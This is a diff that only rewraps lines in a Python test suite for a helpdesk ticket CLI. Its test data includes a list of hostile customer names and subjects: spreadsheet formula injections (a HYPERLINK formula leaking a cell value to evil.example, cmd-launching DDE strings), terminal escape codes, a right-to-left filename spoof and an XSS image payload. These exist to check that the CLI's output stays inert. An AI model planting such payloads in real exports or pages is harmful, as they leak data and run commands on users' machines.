@@ -75,7 +75,11 @@ EXPECT: dict[str, list[str]] = {
     "import_not_objects.json": [":1:", ":2:", ":3:", ":4:"],
     "config_bad_timezone.toml": [": timezone:"],
     "config_unknown_key.toml": [": colour:"],
-    "config_bad_duration.toml": ["policies.gold.P1.first_response", "policies.gold.P3.resolution", "policies.gold.P4.resolution"],
+    "config_bad_duration.toml": [
+        "policies.gold.P1.first_response",
+        "policies.gold.P3.resolution",
+        "policies.gold.P4.resolution",
+    ],
     "config_unknown_calendar.toml": ["policies.gold.calendar"],
     "config_unknown_policy_for_customer.toml": ["policy"],
     "config_bad_hours.toml": ["calendars.office.mon", "calendars.office.tue", "calendars.office.wed"],
@@ -137,12 +141,26 @@ EXPECT: dict[str, list[str]] = {
 }
 
 SEED = [
-    {"ref": "SEED-1", "subject": "VPN down for ward B", "customer": "Clinique Saint-Jean", "priority": "P2",
-     "created_at": "2026-03-27T16:05:00+01:00",
-     "events": [{"at": "2026-03-27T16:20:00+01:00", "kind": "reply", "public": True, "author": "alice", "body": "On it."},
-                {"at": "2026-03-27T16:40:00+01:00", "kind": "status", "to": "pending"}]},
-    {"ref": "SEED-2", "subject": "New laptop", "customer": "Acme", "impact": 3, "urgency": 2, "type": "request",
-     "created_at": "2026-03-26T10:00:00Z"},
+    {
+        "ref": "SEED-1",
+        "subject": "VPN down for ward B",
+        "customer": "Clinique Saint-Jean",
+        "priority": "P2",
+        "created_at": "2026-03-27T16:05:00+01:00",
+        "events": [
+            {"at": "2026-03-27T16:20:00+01:00", "kind": "reply", "public": True, "author": "alice", "body": "On it."},
+            {"at": "2026-03-27T16:40:00+01:00", "kind": "status", "to": "pending"},
+        ],
+    },
+    {
+        "ref": "SEED-2",
+        "subject": "New laptop",
+        "customer": "Acme",
+        "impact": 3,
+        "urgency": 2,
+        "type": "request",
+        "created_at": "2026-03-26T10:00:00Z",
+    },
     {"ref": "SEED-3", "subject": "Printer", "customer": "Acme", "priority": "P4", "created_at": "2026-03-25T08:00:00Z"},
 ]
 
@@ -249,24 +267,43 @@ def test_malformed_sqlite_file_argument_is_rejected_cleanly(name, cli_server, de
 
 def _both_ways(args: list[str], stdin: Path | None, cli_server, work: Path) -> None:
     forked = cli_server.run(*args, stdin=stdin, cwd=work)
-    real = subprocess.run([sys.executable, "-m", "deskterm.cli", *map(os.fsencode, args)], capture_output=True,
-                          input=stdin.read_bytes() if stdin else b"", cwd=work, timeout=120)
-    assert (forked.returncode, forked.stdout, forked.stderr) == (real.returncode, real.stdout.decode(), real.stderr.decode())
+    real = subprocess.run(
+        [sys.executable, "-m", "deskterm.cli", *map(os.fsencode, args)],
+        capture_output=True,
+        input=stdin.read_bytes() if stdin else b"",
+        cwd=work,
+        timeout=120,
+    )
+    assert (forked.returncode, forked.stdout, forked.stderr) == (
+        real.returncode,
+        real.stdout.decode(),
+        real.stderr.decode(),
+    )
 
 
 # Cases that fail before the database is opened (configuration, arguments, standard input): one engine is enough.
 @pytest.mark.engines("sqlite")
-@pytest.mark.parametrize("name", ["import_missing_fields.json", "config_bad_hours.toml", "args_update_bad_priority.args",
-                                  "args_update_note_not_utf8.args", "args_new_description_stdin_not_utf8.args"])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "import_missing_fields.json",
+        "config_bad_hours.toml",
+        "args_update_bad_priority.args",
+        "args_update_note_not_utf8.args",
+        "args_new_description_stdin_not_utf8.args",
+    ],
+)
 def test_fork_server_matches_the_real_cli(name, cli_server, desk_db):
     db, work = desk_db
     _both_ways(["--db", db, "--config", str(EXAMPLE_CONFIG), *_command(name)], _stdin_of(name), cli_server, work)
 
 
 # Commands that read the database, on each engine: a refusal and a success (what the CLI tests mostly run).
-@pytest.mark.parametrize("command", [_command("args_show_unknown_ticket.args"),
-                                     ["show", "SEED-1", "--json", "--at", "2026-03-28T12:00:00+01:00"]],
-                         ids=["show-unknown", "show-json"])
+@pytest.mark.parametrize(
+    "command",
+    [_command("args_show_unknown_ticket.args"), ["show", "SEED-1", "--json", "--at", "2026-03-28T12:00:00+01:00"]],
+    ids=["show-unknown", "show-json"],
+)
 def test_fork_server_matches_the_real_cli_on_the_database(command, cli_server, desk_db):
     db, work = desk_db
     _both_ways(["--db", db, "--config", str(EXAMPLE_CONFIG), *command], None, cli_server, work)
@@ -307,7 +344,12 @@ def _can_mount() -> bool:
         return False
     probe = Path(__import__("tempfile").mkdtemp(prefix="deskterm-mount-probe-"))
     try:
-        ok = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(probe)], capture_output=True).returncode == 0
+        ok = (
+            subprocess.run(
+                ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(probe)], capture_output=True
+            ).returncode
+            == 0
+        )
         if ok:
             subprocess.run(["umount", str(probe)], capture_output=True)
         return ok
@@ -465,8 +507,9 @@ def recipe_locked_desk(seed: Path, work: Path) -> Recipe:
     """Another process holds the desk's write lock (BEGIN IMMEDIATE) for longer than the retry window (1 s here)."""
     db = _copy_seed(seed, work)
     recipe = Recipe(db, env={"DESKTERM_BUSY_TIMEOUT": "1"})
-    holder = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-                              text=True)
+    holder = subprocess.Popen(
+        [sys.executable, "-c", HOLD_LOCK, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
 
     def release() -> None:
         holder.stdin.close()
@@ -520,13 +563,16 @@ def recipe_planted_wal_link(seed: Path, work: Path) -> Recipe:
 
 
 HOSTILE = [  # (customer, subject) as customers write them
-    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0"),
+    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0"),
     ("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
     ("\tTabbed Ltd", "\rCarriage return first"),
     ("Evil\x1b[2J\x1b]0;pwned\x07 Corp\x00", "Bell\x07 and NUL\x00 and \x1b[31mred"),
     ("Rh\u202eenola\u202c SA", "invoice\u202egpj.exe"),
     ("Ac\u200bme\ufeff", "zero\u200bwidth\ufeff subject"),
-    ("[Click](https://evil.example) <img src=x onerror=alert(1)> | cell", "*bold* _it_ `code` # heading | pipe ~strike~"),
+    (
+        "[Click](https://evil.example) <img src=x onerror=alert(1)> | cell",
+        "*bold* _it_ `code` # heading | pipe ~strike~",
+    ),
 ]
 
 
@@ -550,7 +596,7 @@ def recipe_hostile_names(seed: Path, work: Path) -> Recipe:
     return Recipe(db)
 
 
-RECIPES = {name[len("recipe_"):]: fn for name, fn in globals().items() if name.startswith("recipe_")}
+RECIPES = {name[len("recipe_") :]: fn for name, fn in globals().items() if name.startswith("recipe_")}
 
 
 def _tree(root: Path) -> dict[str, tuple]:
@@ -612,8 +658,13 @@ def test_a_desk_in_trouble_is_one_line_and_stays_as_it_was(name, cli_server, see
     recipe = RECIPES[case["recipe"]](seed_desk, work)
     before = _tree(work)
     # {desk} and {work} in an argument: the recipe's desk, the case's directory (db copy --from {desk})
-    args = ["--db", str(recipe.db), "--config", str(EXAMPLE_CONFIG),
-            *(a.format(desk=recipe.db, work=work, seed=seed_desk) for a in case["args"])]
+    args = [
+        "--db",
+        str(recipe.db),
+        "--config",
+        str(EXAMPLE_CONFIG),
+        *(a.format(desk=recipe.db, work=work, seed=seed_desk) for a in case["args"]),
+    ]
     if "input" in case:
         args.append(str(CORPUS / case["input"]))
     r = cli_server.run(*args, env={**recipe.env, **case.get("env", {})}, cwd=work, fsize=recipe.fsize)
@@ -683,7 +734,7 @@ def check_markdown_inert(r, work: Path, recipe: Recipe) -> None:
             assert line.replace("\\|", "").count("|") == 3, line
 
 
-CHECKS = {name[len("check_"):]: fn for name, fn in globals().items() if name.startswith("check_")}
+CHECKS = {name[len("check_") :]: fn for name, fn in globals().items() if name.startswith("check_")}
 
 
 @pytest.mark.engines("sqlite")
@@ -693,8 +744,14 @@ def test_a_read_only_desk_can_still_be_read(recipe, cli_server, seed_desk, tmp_p
     work = tmp_path / "case"
     work.mkdir()
     made = RECIPES[recipe](seed_desk, work)
-    for args in (["list"], ["show", "SEED-1"], ["history", "SEED-1"], ["report", "--since", "3650d"],
-                 ["handover"], ["escalations", "--all"]):
+    for args in (
+        ["list"],
+        ["show", "SEED-1"],
+        ["history", "SEED-1"],
+        ["report", "--since", "3650d"],
+        ["handover"],
+        ["escalations", "--all"],
+    ):
         r = cli_server.run("--db", str(made.db), "--config", str(EXAMPLE_CONFIG), *args, cwd=work)
         assert (r.returncode, r.stderr) == (0, ""), (args, r.stderr)
     assert "SEED-1" in cli_server.run("--db", str(made.db), "--config", str(EXAMPLE_CONFIG), "show", "SEED-1").stdout
